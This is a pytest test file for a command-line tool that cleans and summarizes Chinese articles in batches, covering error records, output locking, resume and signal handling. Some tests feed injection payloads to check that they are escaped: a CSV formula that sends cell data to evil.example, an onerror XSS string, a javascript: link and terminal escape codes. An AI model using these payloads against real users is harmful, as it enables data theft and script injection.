"""The batch job, driven through the CLI as a user would (extractive config: no model, seconds): bad records,
output folder safety (refuse, lock, torn lines), writers (CSV injection, Markdown), signals, plain errors."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest

from summarizer import ArticleError, InputTooLarge, clean_article, load_pipeline
from summarizer.writers import markdown_report

from conftest import CLI, ROOT, SEED, clean_env, crawl_files, records, run_cli

SURROGATE_LINE = '{"id":"s","title":"t","text":"北京\\ud800召开会议。"}'


def _folder(tmp_path: Path, n: int) -> Path:
    d = tmp_path / "in"
    d.mkdir()
    for i, f in enumerate(crawl_files()[:n]):
        shutil.copy(f, d / f"{i:03d}.txt")
    return d


@pytest.mark.slow
def test_a_file_name_with_a_newline_is_still_a_file(tmp_path):
    d = tmp_path / "nl"
    d.mkdir()
    f = d / "two\nlines.txt"
    shutil.copy(SEED, f)
    assert clean_article(f).title.startswith("北京市扎实开展")
    p = run_cli("clean", str(f))
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["image_count"] == 1
    out = tmp_path / "out"
    p = run_cli("run", str(d), "-o", str(out), "--config", "extractive")
    assert p.returncode == 0, p.stderr
    (rec,) = records(out)
    assert rec["article"]["title"].startswith("北京市扎实开展") and len(rec["article"]["paragraphs"]) == 18


@pytest.mark.slow
@pytest.mark.data
def test_lone_surrogate_and_deep_nesting_are_error_records_next_to_good_files(tmp_path):
    d = _folder(tmp_path, 30)
    bad = d / "bad.jsonl"
    bad.write_text(SURROGATE_LINE + "\n" + "[" * 200_000 + "\n"
                   + json.dumps({"id": "good", "title": "好", "text": "北京召开会议。讨论经济发展。"}, ensure_ascii=False)
                   + "\n", encoding="utf-8")
    out = tmp_path / "out"
    p = run_cli("run", str(d), "-o", str(out), "--config", "extractive")
    assert p.returncode == 2, p.stderr
    assert "Traceback" not in p.stderr
    recs = records(out)
    errors = {r["source"].rsplit(":", 1)[-1]: r["error"] for r in recs if "error" in r}
    assert len(recs) == 33 and len(errors) == 2
    assert "lone surrogate" in errors["1"] and "RecursionError" in errors["2"]
    p = run_cli("run", str(d), "-o", str(out), "--config", "extractive", "--resume")
    assert p.returncode == 2 and "Traceback" not in p.stderr
    assert len(records(out)) == 33


def test_traceback_goes_to_the_log_with_v(tmp_path):
    bad = tmp_path / "bad.jsonl"
    bad.write_text("[" * 200_000 + "\n", encoding="utf-8")
    p = run_cli("-v", "run", str(bad), "-o", str(tmp_path / "o"), "--config", "extractive")
    assert p.returncode == 2 and "RecursionError" in p.stderr


@pytest.mark.slow
def test_the_largest_allowed_inputs_finish(tmp_path):
    text = "标题\n" + "北京召开会议。" * 7142  # 49,995 characters: the web limit is 50,000
    # Bounded by the cleaning and TextRank caps (tests/test_linear.py, test_summarize.py), not by a clock here.
    assert load_pipeline("extractive").process(text).summary_zh
    big = tmp_path / "big.txt"
    big.write_text("标题\n" + "北京召开会议，讨论城市发展。" * 23_800, encoding="utf-8")
    assert 990_000 < big.stat().st_size <= 1_000_000
    p = run_cli("run", str(big), "-o", str(tmp_path / "o"), "--config", "extractive", timeout=120)
    assert p.returncode == 0, p.stderr


@pytest.mark.slow
def test_sigterm_stops_run_keeps_results_and_resume_finishes(tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    big = "".join(f"北京第{i}次会议讨论了城市发展问题。" for i in range(300))
    for i in range(16):  # every article takes a moment, so the run is still going when stopped
        (d / f"{i:03d}.txt").write_text(f"标题{i}\n{big}", encoding="utf-8")
    out = tmp_path / "out"
    args = ["run", str(d), "-o", str(out), "--config", "extractive", "--batch-size", "1"]
    proc = subprocess.Popen([*CLI, *args], cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=clean_env(), text=True)
    jsonl = out / "results.jsonl"
    deadline = time.time() + 120
    while time.time() < deadline and not (jsonl.exists() and len(jsonl.read_bytes().splitlines()) >= 3):
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)  # a hang guard only; it typically stops well under a second
    assert proc.returncode == 128 + signal.SIGTERM and "--resume" in err and "Traceback" not in err
    done = len(records(out))
    assert 3 <= done < 16
    p = run_cli(*args, "--resume")
    assert p.returncode == 0, p.stderr
    ids = [r["id"] for r in records(out)]
    assert len(ids) == 16 and len(set(ids)) == 16


@pytest.mark.slow
@pytest.mark.data
def test_existing_results_are_refused_without_resume_or_overwrite(tmp_path):
    out = tmp_path / "out"
    assert run_cli("run", str(SEED), "-o", str(out), "--config", "extractive").returncode == 0
    before = (out / "results.jsonl").read_bytes()
    (out / "results.jsonl").chmod(0o444)
    p = run_cli("run", str(SEED), "-o", str(out), "--config", "extractive")
    assert p.returncode == 1 and "--resume" in p.stderr and "--overwrite" in p.stderr and "Traceback" not in p.stderr
    assert (out / "results.jsonl").read_bytes() == before
    p = run_cli("run", str(crawl_files()[0]), "-o", str(out), "--config", "extractive", "--overwrite")
    assert p.returncode == 0, p.stderr
    assert len(records(out)) == 1 and (out / "results.jsonl").read_bytes() != before


@pytest.mark.slow
def test_a_second_run_on_the_same_output_is_refused_while_the_first_holds_it(tmp_path):
    from filelock import FileLock

    out = tmp_path / "out"
    out.mkdir()
    with FileLock(str(out / ".summarizer.lock")):
        p = run_cli("run", str(SEED), "-o", str(out), "--config", "extractive", "--resume")
    assert p.returncode == 1 and "another summarizer run is writing to" in p.stderr
    assert not (out / "results.jsonl").exists()
    assert run_cli("run", str(SEED), "-o", str(out), "--config", "extractive", "--resume").returncode == 0


@pytest.mark.slow
@pytest.mark.data
def test_a_torn_line_in_the_middle_drops_only_that_line(tmp_path):
    d = _folder(tmp_path, 12)
    out = tmp_path / "out"
    assert run_cli("run", str(d), "-o", str(out), "--config", "extractive").returncode == 0
    lines = (out / "results.jsonl").read_bytes().splitlines(keepends=True)
    assert len(lines) == 12
    lines[5] = lines[5][: len(lines[5]) // 2] + b"\n"
    (out / "results.jsonl").write_bytes(b"".join(lines))
    p = run_cli("run", str(d), "-o", str(out), "--config", "extractive", "--resume")
    assert p.returncode == 0, p.stderr
    assert "[1/1]" in p.stderr  # only the torn article was redone
    recs = records(out)
    assert len(recs) == 12 and len({r["id"] for r in recs}) == 12


def test_csv_cells_cannot_become_formulas_and_jsonl_keeps_the_text(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    src = tmp_path / "in.jsonl"
    rows = [{"id": "f1", "title": evil, "text": "北京召开会议。讨论经济。"},
            {"id": "+f2", "title": "@SUM(1+1)", "text": "-2+3 上海召开会议。"},
            {"id": "f3", "title": "\tTab", "text": "\r广州召开会议。"}]
    src.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert run_cli("run", str(src), "-o", str(out), "--config", "extractive", "--format", "all").returncode == 0
    assert records(out)[0]["article"]["title"] == evil
    with open(out / "results.csv", encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row][9:]
    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'" + evil in cells and "'+f2" in cells and "'@SUM(1+1)" in cells


@pytest.mark.slow
def test_a_repeated_id_gets_a_duplicate_error_record(tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"id": "same", "text": "北京。"}, ensure_ascii=False) + "\n"
                   + json.dumps({"id": "same", "text": "上海。"}, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    p = run_cli("run", str(src), "-o", str(out), "--config", "extractive")
    assert p.returncode == 2
    first, second = records(out)
    assert first["id"] == "same" and "error" not in first
    assert "duplicate id 'same'" in second["error"] and second["source"].endswith("in.jsonl:2")
    p = run_cli("run", str(src), "-o", str(out), "--config", "extractive", "--resume")
    assert p.returncode == 2 and len(records(out)) == 2


def test_markdown_escapes_error_sources_messages_and_backticks_in_ids():
    recs = [{"id": "e`1", "source": "inj/<img src=x onerror=alert(3)>.txt", "error": "bad <b>thing</b>"},
            {"id": "a``b", "config": "extractive", "summary_zh": "", "paragraphs_en": [], "warnings": [],
             "article": {"title": "", "paragraphs": ["正文"]}}]
    md = markdown_report(recs)
    assert "<img" not in md and "<b>" not in md
    assert "&lt;img src=x onerror=alert(3)&gt;" in md and "bad &lt;b&gt;thing&lt;/b&gt;" in md
    assert "`` e`1 ``" in md and "``` a``b ```" in md


def test_output_that_cannot_be_a_folder_is_a_one_line_error(tmp_path):
    f = tmp_path / "file"
    f.write_text("x")
    for out in (str(f), "/proc/summarizer-out"):
        p = run_cli("run", str(SEED), "-o", out, "--config", "extractive")
        assert p.returncode == 1 and p.stderr.startswith("summarizer: error:") and "Traceback" not in p.stderr
        assert len(p.stderr.strip().splitlines()) == 1


def test_unreadable_and_odd_paths_get_what_is_wrong_with_them(tmp_path):
    (tmp_path / "dir").mkdir()
    os.symlink(tmp_path / "nowhere.txt", tmp_path / "dangling.txt")
    cases = {"/proc/self/mem": "cannot read the file", "/dev/zero": "not a regular file",
             str(tmp_path / "missing.txt"): "no such file", str(tmp_path / "dangling.txt"): "dangling symbolic link"}
    p = run_cli("clean", *cases)
    assert p.returncode == 2 and "Traceback" not in p.stderr
    lines = p.stderr.strip().splitlines()
    assert len(lines) == len(cases)
    for line, (path, why) in zip(lines, cases.items()):
        assert line == f"error: {path}: " + line.split(": ", 2)[2] and why in line, line
        assert line.count(path) == 1  # the path is named once, not twice
    with pytest.raises(ArticleError, match="is a directory"):
        clean_article(tmp_path / "dir")


def test_clean_gives_one_article_per_jsonl_record(tmp_path):
    src = tmp_path / "x.jsonl"
    src.write_text("\n".join(json.dumps({"id": f"r{i}", "text": f"第{i}段。"}, ensure_ascii=False) for i in range(3)),
                   encoding="utf-8")
    p = run_cli("clean", str(src))
    assert p.returncode == 0, p.stderr
    arts = [json.loads(line) for line in p.stdout.splitlines()]
    assert [a["id"] for a in arts] == ["r0", "r1", "r2"] and arts[2]["source"] == f"{src}:3"


def test_no_inputs_is_an_error_not_a_silent_success(tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    loop = tmp_path / "loop"
    loop.mkdir()
    os.symlink(loop, loop / "self")
    os.symlink(loop / "nothing.txt", loop / "dangling.txt")
    for d in (empty, loop):
        p = run_cli("run", str(d), "-o", str(tmp_path / f"o-{d.name}"), "--config", "extractive", timeout=60)
        assert p.returncode == 1 and "no inputs found" in p.stderr


def test_jsonl_records_name_their_line_and_ids_are_checked(tmp_path):
    src = tmp_path / "r.jsonl"
    rows = [{"id": "ok", "text": "北京。"}, {"id": "x" * 2_000_000, "text": "上海。"}, {"id": {"nested": 1}, "text": "广州。"},
            {"id": 7, "text": "深圳。"}, {"id": True, "text": "天津。"}]
    src.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert run_cli("run", str(src), "-o", str(out), "--config", "extractive").returncode == 2
    recs = records(out)
    assert recs[0]["article"]["source"] == f"{src}:1" and recs[3]["id"] == "7"
    assert "limit is 200" in recs[1]["error"] and len(recs[1]["id"]) < 200
    assert "not dict" in recs[2]["error"] and "not bool" in recs[4]["error"]


@pytest.mark.slow
def test_bad_files_each_give_one_error_record_and_siblings_are_processed(tmp_path):
    d = tmp_path / "mixed"
    d.mkdir()
    shutil.copy(SEED, d / "good.txt")
    (d / "empty.txt").write_bytes(b"")
    (d / "space.txt").write_text("  \n\n\u3000 ", encoding="utf-8")
    (d / "binary.txt").write_bytes(bytes(range(256)) * 8)
    (d / "png.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(2000))
    (d / "huge.txt").write_bytes(("标题\n" + "北京" * 900_000).encode("utf-8"))
    (d / "scripts.html").write_text("<html><head><script>var a=1;</script><style>p{}</style></head><body></body></html>")
    (d / "images.txt").write_text("标题\n" + "-" * 40 + "\n这里有图片\n" + "-" * 40 + "\n", encoding="utf-8")
    out = tmp_path / "out"
    p = run_cli("run", str(d), "-o", str(out), "--config", "extractive")
    assert p.returncode == 2
    recs = {Path(r.get("source") or r["article"]["source"]).name: r for r in records(out)}
    assert len(recs) == 8 and "error" not in recs["good.txt"]
    assert all("error" in r for name, r in recs.items() if name != "good.txt")
    assert "over the limit" in recs["huge.txt"]["error"]
    p = run_cli("run", "-", "-o", str(tmp_path / "o2"), "--config", "extractive", input="")
    assert p.returncode == 2 and "empty" in p.stderr


def test_the_markdown_report_is_a_review_queue_of_exactly_the_flagged_sentences(tmp_path):
    from summarizer import ArticleResult, clean_article
    from summarizer.writers import markdown_report, write_csv
    from summarizer.flags import Finding, Flag
    from summarizer.repair import Passage, SentencePair

    art = clean_article("标题\n会议召开了。每天来电两万件。\n市民外出。")
    lost = SentencePair("每天来电两万件。", "There are many calls a day.", (Flag("number_lost", "20,000"),))
    rec = ArticleResult(article=art, paragraphs_en=("The meeting was held. There are many calls a day.", "People went out."),
                        findings=(Finding("number_lost", "20,000", where="para"),),
                        sentences=(Passage("para", 0, (SentencePair("会议召开了。", "The meeting was held.",
                                                                   (Flag("repaired"),)), lost)),
                                   Passage("para", 1, (SentencePair("市民外出。", "People went out."),)))).to_dict()
    md = markdown_report([rec])
    review = md.split("### To review", 1)[1].split("\n\n", 2)[1]
    assert md.index("**To review**: number_lost 1 (1 sentences)") < md.index("### To review") < md.index("### Translation")
    assert review.count("\n") == 2 and "| paragraph 1 | 每天来电两万件。 | There are many calls a day. | number_lost: 20,000 |" in review
    assert "会议召开了" not in review and "市民外出" not in review  # repaired alone is no doubt; clean pairs stay out
    write_csv([rec], tmp_path / "r.csv")
    rows = list(csv.DictReader(open(tmp_path / "r.csv", encoding="utf-8-sig")))
    assert rows[0]["flagged_sentences"] == "1"


# ---------------------------------------------------------------- issue 34: foreign lines, report injection, controls


@pytest.mark.parametrize("foreign", ['{"id":"foreign"}', '{"id":"x","article":"oops"}',
                                     '{"id":"y","article":{"title":"t","paragraphs":["p"]},"summary_zh":"",'
                                     '"title_en":"","summary_en":"","paragraphs_en":[],"warnings":[],'
                                     '"sentences":[{"slot":"para","index":0}]}',
                                     '{"id":"z","error":{"not":"a string"}}'])
def test_resume_drops_json_lines_that_are_no_records_of_ours(tmp_path, foreign):
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps({"id": f"a{i}", "text": f"北京第{i}次会议召开。"}, ensure_ascii=False) + "\n"
                           for i in range(3)), encoding="utf-8")
    out = tmp_path / "out"
    assert run_cli("run", str(src), "-o", str(out), "--config", "extractive", "--format", "all").returncode == 0
    lines = (out / "results.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)
    # A foreign line in the middle, and the last article's record gone (so resume has work to do).
    (out / "results.jsonl").write_text(lines[0] + foreign + "\n" + lines[1], encoding="utf-8")
    (out / "results.md").write_text("stale", encoding="utf-8")
    p = run_cli("run", str(src), "-o", str(out), "--config", "extractive", "--format", "all", "--resume")
    # It crashed after the work with a traceback and exit 1, results.csv cut at that record, results.md stale.
    assert p.returncode == 0 and "Traceback" not in p.stderr, p.stderr[-800:]
    assert "no readable result record" in p.stderr
    recs = records(out)
    assert sorted(r["id"] for r in recs) == ["a0", "a1", "a2"]
    with open(out / "results.csv", encoding="utf-8-sig", newline="") as f:
        assert sorted(row["id"] for row in csv.DictReader(f)) == ["a0", "a1", "a2"]
    md = (out / "results.md").read_text(encoding="utf-8")
    assert md != "stale" and all(f"第{i}次会议" in md for i in range(3))


def test_the_report_shows_links_and_images_in_articles_as_text(tmp_path):
    from markdown_it import MarkdownIt

    src = tmp_path / "in.jsonl"
    rows = [{"id": "m1", "title": "![t](http://evil.example/pixel.png)",
             "text": "北京召开会议。[点这里](javascript:alert(1)) ![x](http://evil.example/a.png) *强调* `代码`"}]
    src.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert run_cli("run", str(src), "-o", str(out), "--config", "extractive", "--format", "all").returncode == 0
    md = (out / "results.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").render(md)
    assert "<img" not in html and "<a " not in html and "href" not in html and "src=" not in html
    assert "<em>" not in html and "<code>" not in html.split("<sub>")[0]
    # The reader still sees the article's characters.
    assert "![t](http://evil.example/pixel.png)" in html and "[点这里](javascript:alert(1))" in html


def test_control_characters_in_ids_never_reach_the_terminal_or_the_report(tmp_path):
    src = tmp_path / "in.jsonl"
    evil = "t\x1b]0;owned\x07\x1b[2J"
    src.write_text(json.dumps({"id": evil, "text": "北京召开会议。"}) + "\n"
                   + json.dumps({"id": evil + "2", "text": ""}) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    p = run_cli("run", str(src), "-o", str(out), "--config", "extractive", "--format", "all")
    assert p.returncode == 2
    assert "\x1b" not in p.stderr and "\x07" not in p.stderr, p.stderr
    assert "t\\x1b]0;owned\\x07" in p.stderr  # shown, escaped, in the progress line and the error line
    md = (out / "results.md").read_text(encoding="utf-8")
    assert "\x1b" not in md and "\x07" not in md
    assert records(out)[0]["id"] == evil  # the JSONL keeps the id exact


def test_cleaning_has_a_time_budget(tmp_path):
    pipe = load_pipeline("extractive", {"limits.clean_seconds": 1e-6})
    rec = next(iter(pipe.process_many([SEED])))
    assert rec.kind == "InputTooLarge" and "limits.clean_seconds" in rec.error
    assert load_pipeline("extractive").article(SEED).paragraphs


def test_the_python_api_checks_max_chars_and_counts_the_title():
    pipe = load_pipeline("extractive")
    for bad in (-5, 0, "10", True, 2.5, 10_000):
        with pytest.raises(ValueError, match="max_chars"):
            pipe.process("北京召开会议。讨论经济。", max_chars=bad)
    assert len(pipe.process(SEED, max_chars=60).summary_zh) <= 60
    with pytest.raises(InputTooLarge):
        pipe.process({"title": "标" * 2_000_000, "text": "北京召开会议。"})
    with pytest.raises(InputTooLarge):
        clean_article("北京召开会议。", title="标" * 400_000, max_bytes=1_000_000)
    assert clean_article("北京召开会议。", title="标题").title == "标题"


def _counting_pipe(tasks=("summary", "translation")):
    from summarizer.config import load_config
    from summarizer.pipeline import Pipeline

    from conftest import CountingGenerator

    gen = CountingGenerator(answer="北京召开会议，讨论城市发展问题。")
    return Pipeline(load_config("small", {"tasks": list(tasks)}, environ={}), generators={"llm": gen}), gen


def test_an_article_with_an_earlier_ones_content_copies_its_record_at_no_model_cost():
    # Issue 47: 23 of the 520 crawl files have a body identical to another file's; each was processed in full.
    from summarizer.batch import process

    items = [{"id": "a", "title": "北京召开会议", "text": "北京市今天召开会议。\n会议讨论城市发展。"},
             {"id": "b", "title": "上海召开会议", "text": "上海市今天召开会议。"},
             {"id": "a-again", "title": "北京召开会议", "text": "北京市今天召开会议。\n会议讨论城市发展。"}]
    pipe, gen = _counting_pipe(("summary",))
    alone = sum(1 for _ in process(pipe, items[:2]))
    calls_for_two = gen.calls
    gen.calls = 0
    recs = [r.to_dict() for r in process(pipe, items)]
    assert alone == 2 and gen.calls == calls_for_two  # the third article cost nothing
    assert [r["id"] for r in recs] == ["a", "b", "a-again"]
    assert recs[2]["duplicate_of"] == "a" and "duplicate_of" not in recs[0]
    assert recs[2]["summary_zh"] == recs[0]["summary_zh"] and recs[2]["article"]["id"] == "a-again"


def test_resume_copies_the_result_of_content_done_in_the_earlier_run(tmp_path):
    first = tmp_path / "a.jsonl"
    first.write_text(json.dumps({"id": "a", "title": "北京召开会议", "text": "北京市今天召开会议。"}, ensure_ascii=False)
                     + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert run_cli("run", str(first), "-o", str(out), "--config", "extractive").returncode == 0
    again = tmp_path / "b.jsonl"
    again.write_text("\n".join(json.dumps(d, ensure_ascii=False) for d in (
        {"id": "a", "title": "北京召开会议", "text": "北京市今天召开会议。"},
        {"id": "copy", "title": "北京召开会议", "text": "北京市今天召开会议。"})) + "\n", encoding="utf-8")
    done = run_cli("run", str(again), "-o", str(out), "--config", "extractive", "--resume")
    assert done.returncode == 0, done.stderr
    recs = records(out)
    assert [r["id"] for r in recs] == ["a", "copy"] and recs[1]["duplicate_of"] == "a"
    assert recs[1]["summary_zh"] == recs[0]["summary_zh"] and recs[1]["article"]["id"] == "copy"
    assert "1 article(s) had the same content as an earlier one" in done.stderr


def test_the_cli_progress_says_the_step_inside_an_article_and_is_never_silent_long(tmp_path, capsys):
    # Issue 47: the progress line counted articles only; the seed printed one line after 2½ minutes.
    from summarizer.batch import Progress, run_job
    from summarizer.sink import JsonlSink

    pipe, gen = _counting_pipe()
    gen.delay = 0.25  # a slow model: 0.25 s a request
    Progress.QUIET_SECONDS = 0.5
    sink = JsonlSink(tmp_path / "out" / "results.jsonl", resume=False)
    try:
        assert run_job(pipe, [{"id": "a", "title": "北京召开会议", "text": "北京市今天召开会议。\n会议讨论城市发展。\n"
                                                                   "会议决定新建地铁。"}], sink) == 0
    finally:
        sink.close()
        Progress.QUIET_SECONDS = 12.0
    err = capsys.readouterr().err
    assert "[1/1] the Chinese summary" in err and "[1/1] translating" in err and "parts" in err, err
    assert "s in this step" in err and pipe.on_step is None

